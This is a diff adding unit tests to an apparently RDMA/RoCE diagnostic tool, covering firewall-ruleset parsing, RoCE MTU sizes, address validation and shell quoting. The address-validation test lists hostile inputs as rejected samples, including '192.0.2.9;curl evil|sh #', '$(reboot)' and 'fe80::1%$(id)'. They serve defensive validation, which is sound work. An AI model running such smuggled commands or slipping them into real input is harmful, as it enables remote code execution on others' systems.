@@ -51,6 +51,10 @@ static void interrupts(void **state)
 	assert_int_equal(load.all, 3015);
 	assert_int_equal(load.most, 3000);
 	assert_int_equal(load.cpu, 0);
+	/* a processor that is off has no column */
+	load = parse_interrupts("   CPU0 CPU2\n 9: 1 8 x comp0\n", "comp");
+	assert_int_equal(load.most, 8);
+	assert_int_equal(load.cpu, 2);
 	load = parse_interrupts(text, "irdma");
 	assert_int_equal(load.vectors, 0);
 	assert_int_equal(load.all, 0);
@@ -115,9 +119,21 @@ static const struct {
 	{ "some peers", "drop", "ip saddr 10.0.0.0/8 accept # handle 2", PERHAPS, NULL },
 	{ "not some peers", "accept", "ip saddr 10.0.0.0/8 drop # handle 2", PERHAPS, "2" },
 	{ "some, then all", "accept", "ip saddr 10.0.0.0/8 drop # handle 2\n"
-	  "udp dport 4791 drop # handle 3", DROPPED, "2" },
+	  "udp dport 4791 drop # handle 3", DROPPED, "3" },
+	{ "some, then the policy", "drop", "ip saddr @blacklist drop # handle 4\n"
+	  "tcp dport 22 accept # handle 5", DROPPED, NULL },
+	{ "two that may", "accept", "ip saddr 10.0.0.0/8 drop # handle 2\n"
+	  "ip saddr 10.1.0.0/16 drop # handle 3", PERHAPS, "2" },
+	{ "some pass, the rest not", "accept", "ip saddr 10.0.0.0/8 accept # handle 2\n"
+	  "ip saddr 10.9.0.1 drop # handle 3\nudp dport 4791 drop # handle 4", PERHAPS, "4" },
 	{ "by rate", "accept", "limit rate 1/second drop # handle 2", PERHAPS, "2" },
 	{ "a named set", "drop", "udp dport @open accept # handle 2", PERHAPS, NULL },
+	{ "counted by name", "accept", "udp dport 4791 counter name \"c\" drop # handle 5",
+	  DROPPED, "5" },
+	{ "counted, without figures", "accept", "udp dport 4791 counter drop # handle 5",
+	  DROPPED, "5" },
+	{ "its own words in a comment", "accept",
+	  "udp dport 4791 drop comment \"# handle 9\" # handle 5", DROPPED, "5" },
 	{ "a map", "accept", "udp dport vmap { 4791 : drop } # handle 2", PERHAPS, "2" },
 	{ "ping", "drop", "icmp type echo-request accept # handle 2", DROPPED, NULL },
 	{ "the other family", "accept", "ip6 nexthdr udp drop # handle 2", PASSES, NULL },
@@ -130,9 +146,16 @@ static const struct {
 	{ "a jump", "accept", "jump more # handle 2", DROPPED, "40" },
 	{ "a jump of tcp", "accept", "meta l4proto tcp jump more # handle 2", PASSES, NULL },
 	{ "a jump, perhaps", "accept", "ip saddr 10.1.1.1 jump more # handle 2", PERHAPS, "40" },
+	{ "a jump, perhaps, and allowed there", "accept", "ip saddr 10.1.1.1 jump allow # handle 2",
+	  PASSES, NULL },
+	{ "a goto", "drop", "goto empty # handle 2\naccept # handle 3", DROPPED, NULL },
+	{ "a goto, perhaps", "drop", "ip saddr 10.1.1.1 goto empty # handle 2\n"
+	  "accept # handle 3", PERHAPS, NULL },
 	{ "no such chain", "accept", "jump nowhere # handle 2", PERHAPS, NULL },
 	{ "a loop", "accept", "jump loop # handle 2", PERHAPS, NULL },
 	{ "returned", "drop", "return # handle 2\naccept # handle 3", DROPPED, NULL },
+	{ "some returned", "drop", "ip saddr 10.1.1.1 return # handle 2\naccept # handle 3",
+	  PERHAPS, NULL },
 };
 
 static char *ruleset_of(const char *policy, const char *rules, const char *family)
@@ -141,6 +164,9 @@ static char *ruleset_of(const char *policy, const char *rules, const char *famil
 		       "\tchain more { # handle 3\n\t\tudp dport 4791 drop # handle 40\n\t}\n"
 		       "\tchain loop { # handle 4\n\t\tjump loop # handle 41\n"
 		       "\t\tjump loop # handle 42\n\t\tjump loop # handle 43\n\t}\n"
+		       "\tchain allow { # handle 5\n\t\tudp dport 4791 accept # handle 51\n"
+		       "\t\tdrop # handle 52\n\t}\n"
+		       "\tchain empty { # handle 6\n\t}\n"
 		       "\tchain input { # handle 2\n"
 		       "\t\ttype filter hook input priority filter; policy %s;\n"
 		       "\t\t%s\n\t}\n}\n", family, policy, rules);
@@ -184,6 +210,38 @@ static void nft_tables(void **state)
 					   ruleset_of("drop", "", "ip")), &roce, &by), DROPPED);
 }
 
+/* Chains of a device see what comes by it alone */
+static void nft_devices(void **state)
+{
+	static const struct {
+		const char *binding;
+		enum verdict of_eth0, of_unknown;
+	} rows[] = {
+		{ "device \"eth5\"", PASSES, PERHAPS },
+		{ "device \"eth0\"", DROPPED, PERHAPS },
+		{ "device eth0", DROPPED, PERHAPS },
+		{ "devices = { \"eth5\", \"eth0\" }", DROPPED, PERHAPS },
+		{ "devices = { eth5, eth6 }", PASSES, PERHAPS },
+		{ "", DROPPED, DROPPED },
+	};
+	struct packet unknown = roce;
+	size_t i;
+
+	(void)state;
+	unknown.iface = NULL;
+	for (i = 0; i < NR(rows); i++) {
+		struct blocked_by by = { 0 };
+		const char *text = mem_fmt("table netdev x {\n\tchain in {\n"
+			"\t\ttype filter hook ingress %s priority filter; policy drop;\n\t}\n}\n",
+			rows[i].binding);
+
+		unit_context("%s", rows[i].binding);
+		unit_equal(rows[i].of_eth0, nft_judge(text, &roce, &by));
+		unit_equal(rows[i].of_unknown, nft_judge(text, &unknown, &by));
+		assert_string_equal(by.chain, "netdev x in");
+	}
+}
+
 static void iptables_rules(void **state)
 {
 	static const struct {
@@ -208,6 +266,37 @@ static void iptables_rules(void **state)
 		{ ":INPUT ACCEPT [0:0]\n:other - [0:0]\n-A INPUT -j other\n-A other -j DROP\n",
 		  DROPPED, "other -j DROP" },
 		{ ":OUTPUT DROP [0:0]\n", PASSES, NULL },
+		/* words in quotes are one, whatever they are */
+		{ ":INPUT DROP [0:0]\n-A INPUT -p udp -m udp --dport 4791 -m comment --comment \"allow roce\" -j ACCEPT\n",
+		  PASSES, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -p udp -m udp --dport 4791 -m comment --comment \"no roce\" -j DROP\n",
+		  DROPPED, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -m comment --comment \"say \\\"-j DROP\\\" -j DROP\" -j ACCEPT\n",
+		  PASSES, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -m comment --comment roce -j DROP\n", DROPPED, NULL },
+		/* options with two values, or none */
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -m set --match-set banned src -j DROP\n", PERHAPS,
+		  "INPUT -m set --match-set banned src -j DROP" },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -p tcp -m tcp --tcp-flags FIN,SYN,RST,ACK SYN -j DROP\n",
+		  PASSES, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -f -j DROP\n", PERHAPS, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -m string --string \"-j ACCEPT\" --algo bm -j DROP\n",
+		  PERHAPS, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT ! -s 10.0.0.0/8 -j DROP\n", PERHAPS, NULL },
+		/* the policy, not what may have dropped it before */
+		{ ":INPUT DROP [0:0]\n-A INPUT -s 203.0.113.0/24 -j DROP\n", DROPPED, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -s 203.0.113.0/24 -j DROP\n-A INPUT -j DROP\n",
+		  DROPPED, "INPUT -j DROP" },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -p udp -m multiport --dports 53,4000:5000 -j DROP\n",
+		  DROPPED, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -p udp -m multiport --dports 53,5000 -j DROP\n",
+		  PASSES, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -i eth+ -j DROP\n", DROPPED, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -i ens+ -j DROP\n", PASSES, NULL },
+		{ ":INPUT DROP [0:0]\n:more - [0:0]\n-A INPUT -g more\n-A INPUT -j ACCEPT\n", DROPPED,
+		  NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A INPUT -j LOG --log-prefix \"-j DROP \"\n", PASSES, NULL },
+		{ ":INPUT ACCEPT [0:0]\n-A \n-A INPUT -j\n", PERHAPS, NULL },
 	};
 	size_t i;
 
@@ -221,6 +310,8 @@ static void iptables_rules(void **state)
 		unit_equal(rows[i].verdict, iptables_judge(rules, &roce, &by));
 		if (rows[i].rule)
 			assert_string_equal(by.handle, rows[i].rule);
+		else if (rows[i].verdict == DROPPED && strstr(rows[i].rules, ":INPUT DROP"))
+			assert_null(by.rule);
 	}
 	assert_int_equal(iptables_judge("*nat\n:INPUT DROP [0:0]\nCOMMIT\n", &roce,
 					&(struct blocked_by) { 0 }), PASSES);
@@ -256,15 +347,81 @@ static void any_rules(void **state)
 	}
 }
 
+/* As the kernel's iboe_get_mtu() has it, at each limit */
+static void roce_sizes(void **state)
+{
+	static const struct { unsigned int mtu, data; } rows[] = {
+		{ 0, 0 }, { 351, 0 }, { 352, 256 }, { 607, 256 }, { 608, 512 }, { 1119, 512 },
+		{ 1120, 1024 }, { 1500, 1024 }, { 2143, 1024 }, { 2144, 2048 }, { 4191, 2048 },
+		{ 4192, 4096 }, { 4200, 4096 }, { 9000, 4096 }, { 65520, 4096 },
+	};
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < NR(rows); i++) {
+		unit_context("MTU %u", rows[i].mtu);
+		unit_equal(rows[i].data, roce_mtu(rows[i].mtu));
+	}
+	assert_int_equal(roce_least_mtu(), 352);
+	/* IP, UDP, BTH, RETH, ICRC */
+	assert_int_equal(roce_packet(4096, false), 4096 + 20 + 8 + 12 + 16 + 4);
+	assert_int_equal(roce_packet(4096, true), 4096 + 40 + 8 + 12 + 16 + 4);
+}
+
+/* What a peer may say in the place of an address */
+static void hostile_addresses(void **state)
+{
+	static const char * const good[] = {
+		"192.0.2.9", "fe80::1%eth0", "::", "2001:db8::9", "::ffff:192.0.2.9", "fe80::1%eth0.7",
+	};
+	static const char * const bad[] = {
+		"", "192.0.2.9;curl evil|sh #", "$(reboot)", "`reboot`", "-all", "192.0.2.9 -batch /x",
+		"192.0.2.9\n", "\033]0;x\007", "fe80::1%eth0;reboot", "fe80::1%", "fe80::1%a b",
+		"192.0.2", "192.0.2.9%eth0", "host.example", "\xff\xfe", "default", "%eth0",
+		"::1 via 192.0.2.1", "fe80::1%$(id)", "fe80::1%\xe2\x80\xae",
+	};
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < NR(good); i++) {
+		unit_context("%s", good[i]);
+		unit_equal(true, word_is_address(good[i]));
+	}
+	for (i = 0; i < NR(bad); i++) {
+		unit_context("%s", bad[i]);
+		unit_equal(false, word_is_address(bad[i]));
+	}
+}
+
+static void shell_words(void **state)
+{
+	(void)state;
+	assert_string_equal(word_for_shell("nqn.2014-08.org.nvmexpress:uuid:1"),
+			    "nqn.2014-08.org.nvmexpress:uuid:1");
+	assert_string_equal(word_for_shell(""), "\x27\x27");
+	assert_string_equal(word_for_shell("a b;reboot"), "'a b;reboot'");
+	assert_string_equal(word_for_shell("it's $(id)"), "'it'\\\x27's $(id)'");
+	assert_string_equal(word_for_shell("*"), "'*'");
+	assert_string_equal(word_for_shell("~root"), "'~root'");
+}
+
 static void refusals(void **state)
 {
+	static const unsigned int none[] = { 0, 34, 36, 1u << 31 };
+	unsigned int i;
+
 	(void)state;
 	assert_non_null(strstr(words_cm_status(6), "resources"));
 	assert_null(words_cm_status(0));
 	assert_null(words_cm_status(1000));
 	assert_non_null(strstr(words_cm_reason(8), "nothing listens"));
-	assert_null(words_cm_reason(7));
-	assert_null(words_cm_reason(1u << 31));
+	assert_non_null(strstr(words_cm_reason(10), "stale"));
+	assert_non_null(strstr(words_cm_reason(18), "alternate"));
+	for (i = 1; i <= 33; i++)
+		assert_non_null(words_cm_reason(i));
+	assert_non_null(words_cm_reason(35));
+	for (i = 0; i < NR(none); i++)
+		assert_null(words_cm_reason(none[i]));
 }
 
 int main(void)
@@ -275,8 +432,12 @@ int main(void)
 		cmocka_unit_test(lists),
 		cmocka_unit_test(nft_rules),
 		cmocka_unit_test(nft_tables),
+		cmocka_unit_test(nft_devices),
 		cmocka_unit_test(iptables_rules),
 		cmocka_unit_test(any_rules),
+		cmocka_unit_test(roce_sizes),
+		cmocka_unit_test(hostile_addresses),
+		cmocka_unit_test(shell_words),
 		cmocka_unit_test(refusals),
 	};
 
